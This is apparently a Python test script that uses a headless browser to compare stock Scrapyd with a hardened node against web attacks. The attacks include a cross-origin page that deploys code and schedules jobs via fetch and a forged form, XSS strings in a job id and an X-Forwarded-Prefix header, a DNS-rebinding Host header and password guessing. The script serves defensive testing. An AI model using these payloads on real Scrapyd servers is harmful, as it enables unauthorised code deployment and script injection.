"""Attacks of web pages on a Scrapyd at 127.0.0.1 by a real browser: stock Scrapyd and a node side by side.

    cd tests && python -m node.attacks --browser /usr/bin/chromium

prints one line per attack. A page of another origin, opened in the browser, tries to deploy, to
start a job by a form and to read; a job id and a proxy header try to put a script into Scrapyd's
pages.
"""

import argparse
import base64
import http.server
import subprocess
import sys
import tempfile
import threading
from pathlib import Path
from typing import Any

import requests

from node.conftest import APPLICATION
from plugin.jobs import make_egg, spider
from support.scrapyd import ScrapydServer

MARKUP = '"><img src=x onerror="document.title=`pwned`">'
PAGE = """<!doctype html><title>calm</title><body><script>
const scrapyd = "SCRAPYD", egg = Uint8Array.from(atob("EGG"), c => c.charCodeAt(0));
const data = new FormData();
data.append("project", "fromjs"); data.append("version", "1"); data.append("egg", new Blob([egg]));
const say = (what) => fetch("/said?" + encodeURIComponent(what));
(async () => {
  try { await fetch(scrapyd + "addversion.json", {method: "POST", body: data, mode: "no-cors"}); }
  catch (e) {}
  try {
    const text = await (await fetch(scrapyd + "listprojects.json")).text();
    await say("read " + text.length);
  } catch (e) { await say("read nothing"); }
  const form = document.createElement("form");
  form.method = "POST"; form.action = scrapyd + "schedule.json"; form.target = "g";
  for (const [k, v] of [["project", "p"], ["spider", "one"], ["jobid", "byform"]]) {
    const input = document.createElement("input"); input.name = k; input.value = v; form.append(input);
  }
  const target = document.createElement("iframe"); target.name = "g"; document.body.append(target, form);
  form.submit();
})();
</script>"""


class Attacker(http.server.ThreadingHTTPServer):
    """The foreign site: serves the page and keeps what it reports."""

    def __init__(self, page: str) -> None:
        super().__init__(("localhost", 0), _Handler)
        self.page = page
        self.said: list[str] = []


class _Handler(http.server.BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        path, _, said = self.path.partition("?")
        if path == "/said":
            self.server.said.append(requests.utils.unquote(said))
        body = self.server.page.encode() if path == "/" else b""
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *arguments: Any) -> None:
        """Say nothing."""


def browse(browser: str, url: str) -> str:
    """Open a page for some seconds; returns its document as the browser has it then."""
    with tempfile.TemporaryDirectory() as profile:
        flags = "--headless --no-sandbox --disable-gpu --no-first-run --disable-background-networking"
        flags += " --disable-component-update --disable-sync --timeout=8000 --virtual-time-budget=8000"
        command = [browser, *flags.split(), f"--user-data-dir={profile}", "--dump-dom", url]
        done = subprocess.run(command, capture_output=True, text=True, timeout=90)
    return done.stdout


def attack(folder: Path, conf: dict[str, str | None], browser: str) -> dict[str, str]:
    """Return attack -> what it achieved."""
    egg = make_egg({"spiders/a.py": spider("one")})
    with ScrapydServer(folder, conf=conf) as server:
        fields = {"project": "p", "version": "1"}
        requests.post(f"{server.url}addversion.json", data=fields, files={"egg": egg}, timeout=60)
        page = PAGE.replace("SCRAPYD", server.url).replace("EGG", base64.b64encode(egg).decode())
        with Attacker(page) as attacker:
            threading.Thread(target=attacker.serve_forever, daemon=True).start()
            browse(browser, f"http://localhost:{attacker.server_port}/")
            attacker.shutdown()
        listed = server.api("listjobs")
        started = any(
            job["id"] == "byform" for state in ("pending", "running", "finished") for job in listed[state]
        )
        read = next((said for said in attacker.said if said.startswith("read")), "read nothing")
        xss = server.api("schedule", "POST", project="p", spider="one", jobid=MARKUP)
        if xss["status"] == "ok":
            server.wait_job(MARKUP)
            (server.folder / "logs/p/one").mkdir(parents=True, exist_ok=True)
            (server.folder / "logs/p/one" / f"{MARKUP}.log").touch()
        rebound = requests.get(
            f"{server.url}listprojects.json", headers={"Host": "evil.example:6800"}, timeout=10
        )
        prefix = requests.get(
            server.url, headers={"X-Forwarded-Prefix": '"><script>alert(1)</script>'}, timeout=10
        )
        frame = requests.get(f"{server.url}jobs", timeout=10).headers.get("X-Frame-Options", "none")
        return {
            "deploy by fetch from another site": "deployed" if "fromjs" in _projects(server) else "refused",
            "start a job by a form of another site": "started" if started else "refused",
            "read an answer from another site": read,
            "DNS rebinding (Host: evil.example)": str(rebound.status_code),
            "script in a job id, on /jobs": "runs"
            if "<title>pwned" in browse(browser, f"{server.url}jobs")
            else "text",
            "script in X-Forwarded-Prefix": "in the page" if "alert(1)" in prefix.text else "dropped",
            "page in a foreign frame": f"X-Frame-Options: {frame}",
            "12 wrong passwords": guess(folder / "guarded", conf),
        }


def guess(folder: Path, conf: dict[str, str | None]) -> str:
    """Try 12 passwords; returns the last status."""
    with ScrapydServer(folder, conf={**conf, "username": "root", "password": "sesame"}) as server:
        logins = [("root", str(number)) for number in range(12)]
        return str([requests.get(server.url, auth=login, timeout=10).status_code for login in logins][-1])


def _projects(server: ScrapydServer) -> list[str]:
    projects: list[str] = server.api("listprojects")["projects"]
    return projects


def main() -> int:
    """Print the table; returns 1 if an attack on the node succeeded."""
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--browser", default="/usr/bin/chromium")
    browser = parser.parse_args().browser
    with tempfile.TemporaryDirectory() as folder:
        stock = attack(Path(folder) / "stock", {}, browser)
        node = attack(Path(folder) / "node", {"application": APPLICATION}, browser)
    for name in stock:
        print(f"{name:42} stock: {stock[name]:24} node: {node[name]}")  # noqa: T201
    bad = {"deployed", "started", "runs", "in the page", "200"}
    return 1 if bad & set(node.values()) else 0


if __name__ == "__main__":
    sys.exit(main())
